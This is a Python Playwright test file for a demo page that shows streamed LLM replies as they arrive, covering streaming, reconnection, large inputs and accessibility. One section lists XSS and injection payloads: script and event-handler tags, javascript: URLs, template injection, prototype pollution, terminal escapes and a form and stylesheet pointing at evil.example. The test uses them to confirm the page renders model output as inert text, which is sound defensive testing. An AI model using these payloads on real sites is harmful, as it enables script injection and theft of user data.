"""The demo page in a browser: headless Chromium, the real server, real sockets."""

from __future__ import annotations

import json
import re
import time
from collections.abc import AsyncGenerator, Iterator
from contextlib import contextmanager
from importlib.resources import files
from typing import TYPE_CHECKING, Any

import pytest
from support.breaking import Breaking
from support.outside import chromium

pytest.importorskip("uvicorn", reason="needs the extra `web`")
pytest.importorskip("sse_starlette", reason="needs the extra `web`")

from support.web import Served, serving

from streamparse.web.demo import MAX_UPLOAD, application
from streamparse.web.live import Provider

pytestmark = pytest.mark.outside

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

NAMES = ("127.0.0.1",)
RECORDING = (files("streamparse") / "demo" / "triage.sse").read_text("utf-8")
PATIENCE = 20
"""Seconds until what should happen counts as not happening; the machine may be busy."""

RECORD = """
window.seen = [];        // [path, state] of each slot, as it changed
window.said = [];        // what the live region said
window.frames = [];      // milliseconds between frames of the screen
window.growing = {};     // path -> lengths of its text while it grew
addEventListener("DOMContentLoaded", () => {
  const card = document.getElementById("card");
  new MutationObserver((changes) => {
    const next = new Map(); // what a change made is what the next one of the same slot found
    const made = [];
    for (const { target, oldValue } of changes.reverse()) {
      if (target.matches(".slot")) made.push([target.dataset.path, next.get(target) ?? target.dataset.state]);
      next.set(target, oldValue);
    }
    seen.push(...made.reverse());
  }).observe(card, { subtree: true, attributeFilter: ["data-state"], attributeOldValue: true });
  new MutationObserver(() => {
    for (const slot of document.querySelectorAll('.slot[data-state="growing"]')) {
      const text = slot.querySelector(":scope > .body > .text");
      if (text) (growing[slot.dataset.path] ??= new Set()).add(text.textContent.length);
    }
  }).observe(card, { subtree: true, childList: true, characterData: true });
  const region = document.getElementById("announcer");
  new MutationObserver(() => region.textContent && said.push(region.textContent)).observe(region, { childList: true });
});
let last = performance.now();
requestAnimationFrame(function tick(now) {
  frames.push(now - last);
  last = now;
  requestAnimationFrame(tick);
});
"""


def recorded() -> Any:
    """The document of the recording, read without our own code."""
    chunks = [json.loads(line[6:]) for line in RECORDING.split("\n") if line.startswith("data: {")]
    text = "".join(choice["delta"].get("content") or "" for chunk in chunks for choice in chunk["choices"])
    return json.loads(text.split("```json\n")[1].split("\n```")[0])


DOCUMENT = recorded()
LIVE = json.dumps({**DOCUMENT, "status_summary": "A live answer.", "next_steps": DOCUMENT["next_steps"][:2]})


def paths_in_order(value: Any, path: str = "") -> Iterator[tuple[str, Any]]:
    """Each path and its value in the order in which the text closes them."""
    if isinstance(value, dict):
        for key, member in value.items():
            step = key if key.isidentifier() else f"[{json.dumps(key, ensure_ascii=False)}]"
            yield from paths_in_order(member, f"{path}.{step}" if path and step == key else path + step)
    if isinstance(value, list):
        for index, member in enumerate(value):
            yield from paths_in_order(member, f"{path}[{index}]")
    if path:
        yield path, value


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as made:
        yield made


@pytest.fixture(scope="module")
def server() -> Iterator[Served]:
    with serving(application(names=NAMES)) as served:
        yield served


@contextmanager
def opened(browser: Browser, url: str, query: str = "", allowed: str = "net::ERR_", **options: Any) -> Iterator[Page]:
    """The page. It must talk to its own server only, and nothing may go wrong in it but what is allowed.

    (A connection that breaks is told by the browser itself.)
    """
    context = browser.new_context(**{"viewport": {"width": 1200, "height": 900}, **options})
    page = context.new_page()
    page.set_default_timeout(PATIENCE * 1000)
    page.add_init_script(RECORD)
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
    page.on("dialog", lambda dialog: (problems.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: None if request.url.startswith(url) else problems.append(request.url))
    page.goto(f"{url}/{query}")
    try:
        yield page
    finally:
        context.close()
    assert [one for one in problems if allowed not in one] == []


def until(page: Page, expression: str, argument: Any = None) -> None:
    """Wait until it is true. (`wait_for_function` evaluates text in the page, which its policy forbids.)"""
    end = time.monotonic() + PATIENCE
    while not page.evaluate(expression, argument):
        assert time.monotonic() < end, f"not within {PATIENCE} s: {expression}"
        page.wait_for_timeout(20)


def wait_for_end(page: Page) -> str:
    """Wait until the reply is over; gives the state of the card."""
    until(page, "!['waiting', 'growing'].includes(document.getElementById('card').dataset.state)")
    return str(page.get_attribute("#card", "data-state"))


def wait_for_state(page: Page, path: str, state: str) -> None:
    """Wait until the slot has been in this state."""
    until(page, "(wanted) => seen.some(([path, state]) => path === wanted[0] && state === wanted[1])", [path, state])


def wait_for_sources(page: Page) -> None:
    """Wait until the page is whole."""
    until(page, "document.body.dataset.ready === 'true'")


def shown(page: Page) -> dict[str, str]:
    """Path -> the text of each slot that has one."""
    found: dict[str, str] = page.evaluate(
        """() => Object.fromEntries([...document.querySelectorAll("#document .slot, #calls .slot")].flatMap((slot) => {
            const text = slot.querySelector(":scope > .body > .text, :scope > .body > .scalar");
            return text ? [[slot.dataset.path, text.textContent]] : [];
        }))"""
    )
    return found


def expected(document: Any) -> dict[str, str]:
    """The same, of a document."""
    leaves = {path: value for path, value in paths_in_order(document) if not isinstance(value, dict | list)}
    return {path: value if isinstance(value, str) else json.dumps(value) for path, value in leaves.items()}


def upload(page: Page, text: str | bytes, name: str = "reply.txt") -> None:
    buffer = text if isinstance(text, bytes) else text.encode()
    page.set_input_files("#file", {"name": name, "mimeType": "text/plain", "buffer": buffer})
    until(page, "(name) => document.getElementById('source').selectedOptions[0].text.endsWith(name)", name)


# ---- fields


def test_fields_grow_before_the_reply_is_complete(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=0.5") as page:
        wait_for_state(page, "status_summary", "growing")
        text = page.inner_text('[data-path="status_summary"] .text')
        assert page.inner_text("#pill") == "streaming"
        assert page.get_attribute("#card", "aria-busy") == "true"
        assert DOCUMENT["status_summary"].startswith(text.strip())
        wait_for_state(page, "status_summary", "done")
        assert page.get_attribute("#card", "data-state") == "growing"
        assert page.locator('[data-path="reply_draft"]').get_attribute("data-state") in ("waiting", "growing")
        assert page.locator('[data-path="status_summary"] > .head .mark').inner_text() == "done"
        page.get_by_role("radio", name="4×").check()

        assert wait_for_end(page) == "invalid"  # 5.5 is no whole number of minutes
        assert shown(page) == expected(DOCUMENT)
        grown = page.evaluate("Object.fromEntries(Object.entries(growing).map(([path, sizes]) => [path, [...sizes]]))")
        sizes = grown["status_summary"]
        assert sizes == sorted(sizes)
        assert len(sizes) >= 3
        assert page.get_attribute("#card", "aria-busy") == "false"


def test_done_marks_appear_in_the_order_of_the_text(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=4") as page:
        wait_for_end(page)
        seen: list[list[str]] = page.evaluate("seen")
        final = [path for path, state in seen if state in ("done", "invalid")]
        wanted = [path for path, _ in paths_in_order(DOCUMENT)]
        assert list(dict.fromkeys(final)) == wanted
        assert {path for path, state in seen if state == "invalid"} == {"next_steps[2].minutes"}
        assert "valid integer" in page.inner_text('[data-path="next_steps[2].minutes"] .message')
        assert not [path for path, state in seen if state == "cut"]


def test_list_items_appear_as_they_come(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=2") as page:
        wait_for_state(page, "next_steps[0]", "done")
        assert page.locator('[data-path="next_steps[2]"]').count() == 0
        assert page.get_attribute('.slot[data-path="next_steps"]', "data-state") == "growing"
        page.get_by_role("radio", name="max").check()
        wait_for_end(page)
        assert page.locator('[data-path="next_steps"] > .body > .items > .slot').count() == len(DOCUMENT["next_steps"])
        assert page.locator('[data-path="risk_flags"] > .body > .chips > .slot').count() == len(DOCUMENT["risk_flags"])


def test_a_cut_stream_shows_as_cut(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=0") as page:
        wait_for_end(page)
        page.select_option("#source", "cut")
        until(page, "document.getElementById('card').dataset.state === 'cut'")
        assert page.inner_text("#pill") == "cut off"
        states: dict[str, str] = page.evaluate(
            """Object.fromEntries([...document.querySelectorAll(".slot")].map(
                ({ dataset }) => [dataset.path, dataset.state]
            ))"""
        )
        assert states["status_summary"] == "done"
        assert states["next_steps"] == "cut"
        assert states["reply_draft"] == "waiting"
        assert "growing" not in states.values()
        text = shown(page)
        assert (
            text.items()
            <= {**expected(DOCUMENT), **{path: text[path] for path in text if states[path] == "cut"}}.items()
        )
        for path in (path for path in text if states[path] == "cut"):
            assert expected(DOCUMENT)[path].startswith(text[path])


def test_the_reasoning_is_in_a_drawer(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=0") as page:
        wait_for_end(page)
        text = page.locator("#reasoning-text")
        assert not text.is_visible()
        page.get_by_text("Reasoning", exact=True).click()
        assert text.is_visible()
        assert text.inner_text().startswith("The customer writes for the third time")
        raw = page.locator("#raw").text_content() or ""
        assert raw.startswith("<think>\nThe customer")
        assert raw.endswith("Shall I send the draft?")


# ---- controls


def test_pause_speed_and_restart(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=1") as page:
        wait_for_state(page, "status_summary", "growing")
        page.get_by_role("button", name="Pause").click()
        page.get_by_role("button", name="Go on").wait_for()
        page.wait_for_timeout(300)  # what was on its way
        before = shown(page)
        page.wait_for_timeout(500)
        assert shown(page) == before
        page.get_by_role("radio", name="max").check()
        assert shown(page) == before  # still paused
        page.get_by_role("button", name="Go on").click()
        wait_for_end(page)
        assert shown(page) == expected(DOCUMENT)
        page.get_by_role("radio", name="1×").check()
        page.get_by_role("button", name="Restart").click()
        until(page, "document.getElementById('card').dataset.state === 'growing'")
        assert page.locator('[data-path="reply_draft"]').get_attribute("data-state") == "waiting"
        page.get_by_role("radio", name="max").check()
        wait_for_end(page)
        assert shown(page) == expected(DOCUMENT)


def test_nothing_plays_by_itself_if_so_asked(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?play=0") as page:
        page.wait_for_timeout(300)
        assert page.get_attribute("#card", "data-state") == "waiting"
        assert page.locator('.slot[data-state="waiting"]').count() == len(DOCUMENT)  # its places are there
        page.get_by_role("button", name="Play").click()
        wait_for_state(page, "status_summary", "growing")


def test_a_capture_that_is_dropped_on_the_page_is_shown(browser: Browser, server: Served) -> None:
    value = {"title": "Mine", "list": ["a", "b"], "nested": {"x": 1}, "long list": ["word " * 20, "b"], "none": {}}
    with opened(browser, server.url, "?play=0") as page:
        page.get_by_role("radio", name="max").check()
        page.evaluate(
            """(text) => {
                const data = new DataTransfer();
                data.items.add(new File([text], "mine.txt", { type: "text/plain" }));
                for (const type of ["dragover", "drop"]) {
                    const options = { dataTransfer: data, bubbles: true, cancelable: true };
                    document.querySelector("main").dispatchEvent(new DragEvent(type, options));
                }
            }""",
            json.dumps(value),
        )
        page.wait_for_selector('[data-path="nested.x"]')
        assert wait_for_end(page) == "done"
        assert shown(page) == expected(value)
        assert page.locator('[data-path="none"]').inner_text().endswith("none")
        assert page.inner_text("#card-title") == "Reply"


def test_a_file_that_is_too_large_is_refused(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?play=0", allowed="status of 413") as page:
        wait_for_sources(page)
        too_large = {"name": "big.txt", "mimeType": "text/plain", "buffer": b" " * (MAX_UPLOAD + 1)}
        page.set_input_files("#file", too_large)
        page.wait_for_selector("#problem:not([hidden])")
        assert "big.txt is larger than 8 MB" in page.inner_text("#problem")
        # and the server itself refuses, whatever the page thinks
        status = page.evaluate(
            "(size) => fetch('upload', { method: 'POST', body: ' '.repeat(size) }).then((answer) => answer.status)",
            MAX_UPLOAD + 1,
        )
        assert status == 413


def test_a_live_model_is_asked_when_the_reader_says_so(browser: Browser) -> None:
    asked: list[str] = []

    async def ask(model: str, text: str) -> AsyncGenerator[Any, None]:
        asked.append(text)
        deltas: list[dict[str, Any]] = [{"content": LIVE[at : at + 7]} for at in range(0, len(LIVE), 7)]
        for delta in [*deltas, {}]:
            choice = {"index": 0, "delta": delta, "finish_reason": None if delta else "stop"}
            yield {"object": "chat.completion.chunk", "choices": [choice]}

    provider = Provider("one", "A model", "KEY", "MODEL", "small", ask)
    with (
        serving(application(names=NAMES, providers={"one": provider})) as server,
        opened(browser, server.url, "?speed=0") as page,
    ):
        wait_for_end(page)
        wait_for_sources(page)
        assert not page.get_by_label("The ticket").is_visible()
        page.get_by_role("combobox").select_option(label="Live: A model")
        page.wait_for_timeout(300)
        assert asked == []  # it costs money
        page.get_by_label("The ticket").fill("Where is <b>my</b> desk?")
        assert page.get_by_role("radio", name="1×").is_disabled()
        page.get_by_role("button", name="Play").click()
        until(page, "document.querySelector('.slot[data-path=status_summary]').textContent.includes('A live answer')")
        assert wait_for_end(page) == "done"
        assert page.locator('[data-path="status_summary"] .text').inner_text() == "A live answer."
    assert len(asked) == 1
    assert "Where is <b>my</b> desk?" in asked[0]


# ---- connections


def test_a_dropped_connection_resumes_without_a_gap(browser: Browser) -> None:
    """The server breaks off in the middle of frames; nothing is missing and nothing comes twice."""
    app = Breaking(application(names=NAMES), [0, 500, 2_000, 3_000, 77], path="/runs/")
    with serving(app) as server, opened(browser, server.url, "?speed=4") as page:
        until(page, "document.getElementById('connection').textContent.startsWith('connection lost')")
        wait_for_end(page)
        assert shown(page) == expected(DOCUMENT)
        assert re.fullmatch(r"all \d+ frames received", page.inner_text("#connection"))
        raw = page.locator("#raw").text_content() or ""
        assert raw.count("status_summary") == 1
    assert len(app.asked) == 6
    ids = [int(one) for one in app.asked if one]
    assert ids == sorted(ids)
    assert ids


def test_the_reader_may_drop_the_connection(browser: Browser) -> None:
    app = Breaking(application(names=NAMES), [], path="/runs/")
    with serving(app) as server, opened(browser, server.url, "?speed=2") as page:
        wait_for_state(page, "status_summary", "growing")
        page.get_by_role("button", name="Drop connection").click()
        wait_for_state(page, "priority", "done")
        page.get_by_role("button", name="Drop connection").click()
        page.get_by_role("radio", name="max").check()
        wait_for_end(page)
        assert shown(page) == expected(DOCUMENT)
    assert len(app.asked) == 3


def test_a_server_that_is_gone_for_good_is_told(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=0.5") as page:
        wait_for_state(page, "status_summary", "growing")
        page.route("**/runs/*", lambda route: route.abort())
        page.clock.install()  # the waits between the retries add up to minutes
        page.get_by_role("button", name="Drop connection").click()
        end = time.monotonic() + PATIENCE
        while page.get_attribute("#card", "data-state") != "failed":
            assert time.monotonic() < end
            page.clock.fast_forward(40_000)
            page.wait_for_timeout(10)
        assert "lost" in page.inner_text("#problem")
        assert page.locator('.slot[data-state="growing"]').count() == 0
        assert page.locator('.slot[data-path="status_summary"]').get_attribute("data-state") == "cut"


# ---- size


@pytest.mark.parametrize("form", ["one long text", "many items"])
def test_a_reply_of_a_megabyte_stays_responsive(browser: Browser, server: Served, form: str, capsys: Any) -> None:
    line = 'A line of some length, with a word or two that wrap – ümläut, 日本語, and a "quote".\n'
    value: Any
    if form == "one long text":
        value = {"text": line * (1_000_000 // len(line))}
    else:
        value = {"items": [{"id": n, "text": line.strip(), "ok": True} for n in range(8_500)]}
    text = json.dumps(value, ensure_ascii=False)
    assert len(text) > 1_000_000 - 1000
    with opened(browser, server.url, "?play=0&speed=0") as page:
        wait_for_sources(page)
        page.evaluate("frames.length = 0")
        began = time.monotonic()
        upload(page, text)
        clicks = []
        while page.get_attribute("#card", "data-state") != "done":
            before = time.monotonic()
            page.click("#card-title", timeout=5_000)  # the page answers to its reader
            clicks.append(time.monotonic() - before)
            page.wait_for_timeout(150)
            assert time.monotonic() - began < 60
        seconds = time.monotonic() - began
        times = sorted(page.evaluate("frames"))
        middle, late, worst = (times[int(part * (len(times) - 1))] for part in (0.5, 0.95, 1))
        with capsys.disabled():
            print(
                f"\n1 MB, {form}: {seconds:.1f} s, {len(times)} frames; frame times: median {middle:.0f} ms, "
                f"95 % {late:.0f} ms, worst {worst:.0f} ms; slowest click {max(clicks) * 1000:.0f} ms"
            )
        assert len(times) > 20
        assert middle < 50
        assert late < 250  # other tests may run beside it
        assert worst < 1500
        got = shown(page)
        if form == "one long text":
            assert got["text"] == value["text"]
        else:
            # Nobody reads thousands of items: the first ones are shown, more where they are asked for.
            assert got == expected({"items": value["items"][:100]})
            page.get_by_role("button", name="Show more of 8,400 values").click()
            assert shown(page) == expected({"items": value["items"][:200]})
            assert page.get_by_role("button", name="Show more of 8,300 values").is_visible()
            assert page.locator('.slot[data-path="items"] .slot:not([data-state="done"])').count() == 0


@pytest.mark.parametrize(("opening", "closing"), [("[", "]"), ('{"a":', "}"), ('{"a":[', "]}")], ids=str)
def test_a_reply_of_many_levels_shows_the_first_ones(
    browser: Browser, server: Served, opening: str, closing: str
) -> None:
    """Hundreds of elements within each other take a browser minutes, or end the page."""
    times = 1000 // len(closing)
    with opened(browser, server.url, "?play=0&speed=0") as page:
        upload(page, f"{opening * times}1{closing * times}")
        assert wait_for_end(page) == "done"
        assert page.locator("#document .slot").count() == 50
        assert page.get_by_text("too many levels").count() == 1
        assert page.locator("#document [data-state=growing]").count() == 0
        # as many as are shown
        upload(page, f'{opening * (50 // len(closing))}"the end"{closing * (50 // len(closing))}', "shallow.txt")
        assert wait_for_end(page) == "done"
        assert list(shown(page).values()) == ["the end"]
        assert page.get_by_text("too many levels").count() == 0


# ---- what a model might write


EVIL = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    '"><svg onload=pwned()>',
    '<a href="javascript:pwned()">click</a>',
    "javascript:pwned()",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    "{{constructor.constructor('pwned()')()}}",
    "\x1b[2J\x1b]0;owned\x07\x9b31m \x00\x08\r",
    "\u202egnp.exe\u2066",
    "</textarea></div></main><form action=//evil.example><input name=x>",
    "]]><![CDATA[ --> <!-- &lt;script&gt; &#x3c;",
)


def evil_captures() -> Iterator[tuple[str, str | bytes]]:
    values = {f"k{n} {text}": text for n, text in enumerate(EVIL)}
    document = json.dumps({**values, "list": list(EVIL), "__proto__": {"polluted": 1}, "constructor": {"prototype": 1}})
    yield "text", f"<think>{' '.join(EVIL)}</think>\n{' '.join(EVIL[:2])}\n{document}\n{' '.join(EVIL)}"
    chunk: dict[str, Any] = {"object": "chat.completion.chunk", "model": EVIL[1]}
    call = {"index": 0, "id": EVIL[1], "type": "function", "function": {"name": EVIL[0], "arguments": document}}
    delta = {"tool_calls": [call], "reasoning_content": EVIL[1]}
    chunks = [
        {**chunk, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]},
        {"error": {"message": " ".join(EVIL), "code": EVIL[0]}},
    ]
    yield "tool call and error", "".join(f"data: {json.dumps(one)}\n\n" for one in chunks)


@pytest.mark.parametrize(("kind", "capture"), [*evil_captures()], ids=["text", "tool call and error"])
def test_what_a_model_writes_is_text_and_nothing_else(
    browser: Browser, server: Served, kind: str, capture: str
) -> None:
    elements = """() => Object.fromEntries(["script", "img", "iframe", "a", "form", "style", "link", "object", "input"]
        .map((name) => [name, document.querySelectorAll(name).length]))"""
    with opened(browser, server.url, "?play=0&speed=0") as page:
        wait_for_sources(page)
        page.evaluate("() => { window.pwned = () => { throw new Error('pwned'); }; }")
        before = page.evaluate(elements)
        address, title = page.url, page.title()
        upload(page, capture, "<img src=x onerror=pwned()>.txt")
        wait_for_end(page)
        page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true")
        page.wait_for_timeout(200)
        assert page.evaluate(elements) == before
        assert (page.url, page.title()) == (address, title)
        assert page.evaluate(
            "({}).polluted === undefined && document.querySelectorAll('[onerror], [onload]').length === 0"
        )
        values = list(shown(page).values())
        for text in EVIL:
            assert values.count(text) >= 2, (kind, text)
        assert page.evaluate("getComputedStyle(document.querySelector('#card .text')).unicodeBidi") == "isolate"
        if kind == "text":
            for text in EVIL:
                assert text in (page.locator("#reasoning-text").text_content() or "")
        else:
            assert EVIL[1] in page.inner_text("#problem")
            assert EVIL[0] in page.inner_text("#calls")


def test_another_origin_reads_and_starts_nothing(browser: Browser, server: Served) -> None:
    """CORS is closed: a page of another port on the same machine gets no answer, and begins no run."""
    with serving(application(names=NAMES)) as other:
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{other.url}/icon.svg")  # an answer without a script of ours
        tried = page.evaluate(
            """(url) => Promise.all([
                ["sources"], ["play", { method: "POST" }], ["upload", { method: "POST", body: "{}" }],
                ["upload", { method: "POST", body: "{}", mode: "no-cors" }], ["", {}],
            ].map(([path, init]) => fetch(`${url}/${path}`, init).then((answer) => answer.type, () => "refused")))""",
            server.url,
        )
        context.close()
    assert set(tried) <= {"refused", "opaque"}


# ---- for everybody


def test_controls_have_names_and_can_be_reached_by_keyboard(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?play=0&speed=4") as page:
        wait_for_sources(page)
        for role, name in (
            ("combobox", "Reply to show"),
            ("button", "Play"),
            ("button", "Restart"),
            ("radio", "1×"),
            ("region", "What the model writes"),
            ("region", "Ticket triage"),
            ("heading", "Ticket triage"),
        ):
            assert page.get_by_role(role, name=name, exact=True).first.is_visible() or role == "radio", (role, name)  # type: ignore[arg-type]
        page.get_by_role("button", name="Play").focus()
        page.keyboard.press("Space")
        wait_for_state(page, "status_summary", "growing")
        page.get_by_role("radio", name="4×").focus()
        page.keyboard.press("ArrowRight")
        assert page.get_by_role("radio", name="max").is_checked()
        wait_for_end(page)


def test_the_live_region_does_not_shout(browser: Browser, server: Served) -> None:
    """Some 470 deltas come; what is told is that fields are done, a few times, and the end."""
    with opened(browser, server.url, "?speed=4") as page:
        wait_for_end(page)
        until(page, "said.join(' ').includes('The reply is')")
        said: list[str] = page.evaluate("said")
        assert 1 <= len(said) <= 6
        assert "Status summary" in " ".join(said)
        assert "done." in " ".join(said)
        live = page.evaluate(
            "[...document.querySelectorAll('[aria-live], [role=alert], [role=status], [role=log]')].map(({ id }) => id)"
        )
        assert sorted(live) == ["announcer", "problem"]
        unnamed = page.evaluate(
            """[...document.querySelectorAll(".mark:not([data-state=waiting])")].filter(
                (mark) => !mark.textContent
            ).length"""
        )
        assert unnamed == 0
        assert (
            page.evaluate(
                "[...document.querySelectorAll('#document dl > :not(.slot), #document ul > :not(li)')].length"
            )
            == 0
        )


def test_tab_goes_through_the_page_in_its_order(browser: Browser, server: Served) -> None:
    with opened(browser, server.url, "?speed=0.25") as page:
        wait_for_sources(page)
        until(page, "document.getElementById('reasoning').dataset.state === 'growing'")
        reached: list[str] = []
        for _ in range(9):
            page.keyboard.press("Tab")
            reached.append(
                page.evaluate(
                    "(({ id, name, className, tagName }) => id || name || className || tagName)(document.activeElement)"
                )
            )
        assert reached == ["skip", "source", "pause", "restart", "drop", "speed", "SUMMARY", "raw", "file"]
        page.locator(".skip").focus()
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "card"


@pytest.mark.parametrize("width", [320, 390])
def test_a_phone_needs_no_sideways_scrolling(browser: Browser, server: Served, width: int) -> None:
    wide = {
        "k" * 300: "w" * 5000,
        "list": ["w" * 200, {"deep": {"er": ["x" * 200] * 3}}],
        "url": "https://" + "a/" * 300,
    }
    overflow = "document.scrollingElement.scrollWidth - document.documentElement.clientWidth"
    options = {"viewport": {"width": width, "height": 700}, "is_mobile": True, "has_touch": True}
    with opened(browser, server.url, "?speed=4", **options) as page:
        for path in ("status_summary", "next_steps"):
            wait_for_state(page, path, "growing")
            assert page.evaluate(overflow) <= 0
        wait_for_end(page)
        assert page.evaluate(overflow) <= 0
        page.get_by_role("radio", name="max").check()
        upload(page, f"<think>{'t' * 900}</think>" + json.dumps(wide))
        page.wait_for_selector('[data-path="url"][data-state="done"]')
        page.evaluate("document.getElementById('reasoning').open = true")
        assert page.evaluate(overflow) <= 0
        sizes = page.evaluate(
            "[...document.querySelectorAll('button, select')].map((one) => one.getBoundingClientRect().height)"
        )
        assert min(sizes) >= 36


def test_dark_mode_and_reduced_motion(browser: Browser, server: Served) -> None:
    colour = "getComputedStyle(document.body).backgroundColor"
    with opened(browser, server.url, "?play=0", color_scheme="light") as page:
        light = page.evaluate(colour)
    with opened(browser, server.url, "?speed=4", color_scheme="dark", reduced_motion="reduce") as page:
        assert page.evaluate(colour) != light
        wait_for_state(page, "status_summary", "growing")
        moving = "document.getAnimations().filter((one) => one.playState === 'running').length"
        assert page.evaluate(moving) == 0
